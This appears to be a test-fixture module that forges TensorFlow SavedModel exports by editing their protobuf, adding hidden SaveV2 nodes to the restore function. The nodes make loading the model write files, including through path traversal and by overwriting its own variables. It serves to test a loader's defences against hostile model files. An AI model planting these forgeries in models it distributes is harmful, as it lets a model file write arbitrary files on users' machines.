"""Forged SavedModels: a real PolicySaver export, edited the way an attacker would.

Each forgery is made by editing `saved_model.pb` as a protobuf (never by
building the graph with TF), so it is exactly what a hostile file can hold.
"""

from __future__ import annotations

import shutil

import tensorflow as tf
from tensorflow.core.framework import attr_value_pb2
from tensorflow.core.framework import function_pb2
from tensorflow.core.framework import node_def_pb2
from tensorflow.core.protobuf import saved_model_pb2

# A TypeSpec the object graph names; renamed (same length), TF cannot decode the object
# graph and the export loads through its flat signatures.
_SPEC_NAME = b"tfp.distributions.Deterministic_ACTTypeSpec"
_UNKNOWN_SPEC_NAME = b"tfp.distributions.Deterministiq_ACTTypeSpec"

RESTORE_WRITES = ("constant path", "path from string ops", "path through a call",
                  "filename climbing out", "write beside the restore")


def read(path: str) -> saved_model_pb2.SavedModel:
  proto = saved_model_pb2.SavedModel()
  with open(f"{path}/saved_model.pb", "rb") as f:
    proto.ParseFromString(f.read())
  return proto


def write(source: str, target: str, proto: saved_model_pb2.SavedModel,
          flat_signatures_only: bool = False) -> str:
  """A copy of export `source` at `target` with `proto` as its saved_model.pb."""
  shutil.copytree(source, target)
  data = proto.SerializeToString()
  if flat_signatures_only:
    assert _SPEC_NAME in data, "the export names no TypeSpec to break"
    data = data.replace(_SPEC_NAME, _UNKNOWN_SPEC_NAME)
  with open(f"{target}/saved_model.pb", "wb") as f:
    f.write(data)
  return target


def _node(name, op, inputs=(), **attrs) -> node_def_pb2.NodeDef:
  node = node_def_pb2.NodeDef(name=name, op=op, input=list(inputs))
  for key, value in attrs.items():
    node.attr[key].CopyFrom(value)
  return node


def _const(name, value, dtype) -> node_def_pb2.NodeDef:
  return _node(name, "Const",
               dtype=attr_value_pb2.AttrValue(type=dtype.as_datatype_enum),
               value=attr_value_pb2.AttrValue(tensor=tf.make_tensor_proto(value, dtype=dtype)))


def _save_v2(name, prefix_ref, suffix="") -> list:
  """Nodes of a SaveV2 of one float to the file named by `prefix_ref`."""
  return [
      _const(f"{name}/names", ["x"], tf.string),
      _const(f"{name}/slices", [""], tf.string),
      _const(f"{name}/value", 1.0, tf.float32),
      _node(name, "SaveV2", [prefix_ref, f"{name}/names:output:0", f"{name}/slices:output:0",
                             f"{name}/value:output:0"],
            dtypes=attr_value_pb2.AttrValue(
                list=attr_value_pb2.AttrValue.ListValue(type=[tf.float32.as_datatype_enum]))),
  ]


def _restore_function(proto) -> function_pb2.FunctionDef:
  meta_graph = proto.meta_graphs[0]
  restore_node = meta_graph.saver_def.restore_op_name.split(":")[0]
  node = next(n for n in meta_graph.graph_def.node if n.name == restore_node)
  name = node.attr["f"].func.name
  return next(f for f in meta_graph.graph_def.library.function if f.signature.name == name)


def _run_with_restore(function: function_pb2.FunctionDef, node_name: str) -> None:
  """Makes the restore function wait for `node_name` (so TF cannot prune it)."""
  last = next(n for n in reversed(function.node_def) if n.op == "NoOp")
  last.input.append(f"^{node_name}")


def add_restore_write(proto: saved_model_pb2.SavedModel, target: str, variant: str):
  """Adds to the saver's restore function a SaveV2 that writes checkpoint `target`
  (`target` is a file prefix: TF writes `target.index` and data files beside it)."""
  function = _restore_function(proto)
  prefix_arg = function.signature.input_arg[0].name
  if variant == "constant path":
    nodes = [_const("evil/path", target, tf.string)] + _save_v2("evil/save", "evil/path:output:0")
  elif variant == "path from string ops":
    head, tail = target[: len(target) // 2], target[len(target) // 2:]
    nodes = [_const("evil/head", head, tf.string), _const("evil/tail", tail, tf.string),
             _node("evil/path", "StringJoin", ["evil/head:output:0", "evil/tail:output:0"],
                   N=attr_value_pb2.AttrValue(i=2))]
    nodes += _save_v2("evil/save", "evil/path:output:0")
  elif variant == "filename climbing out":
    # The loader's filename (…/variables/variables) plus "/../../../<target>".
    climb = "/.." * 64 + target
    nodes = [_const("evil/climb", climb, tf.string),
             _node("evil/path", "StringJoin", [prefix_arg, "evil/climb:output:0"],
                   N=attr_value_pb2.AttrValue(i=2))]
    nodes += _save_v2("evil/save", "evil/path:output:0")
  elif variant == "write beside the restore":
    # The loader's own filename: overwrites the variables being restored.
    nodes = _save_v2("evil/save", prefix_arg)
  elif variant == "path through a call":
    writer = function_pb2.FunctionDef()
    writer.signature.name = "evil_writer"
    writer.signature.input_arg.add(name="path", type=tf.string.as_datatype_enum)
    writer.signature.is_stateful = True
    writer.node_def.extend(_save_v2("save", "path"))
    writer.control_ret["save"] = "save"
    writer.signature.control_output.append("save")
    proto.meta_graphs[0].graph_def.library.function.append(writer)
    function = _restore_function(proto)
    nodes = [_const("evil/path", target, tf.string),
             _node("evil/call", "StatefulPartitionedCall", ["evil/path:output:0"],
                   f=attr_value_pb2.AttrValue(func=attr_value_pb2.NameAttrList(name="evil_writer")),
                   Tin=attr_value_pb2.AttrValue(list=attr_value_pb2.AttrValue.ListValue(
                       type=[tf.string.as_datatype_enum])),
                   Tout=attr_value_pb2.AttrValue(list=attr_value_pb2.AttrValue.ListValue()))]
  else:
    raise ValueError(variant)
  function.node_def.extend(nodes)
  _run_with_restore(function, nodes[-1].name)
  return proto
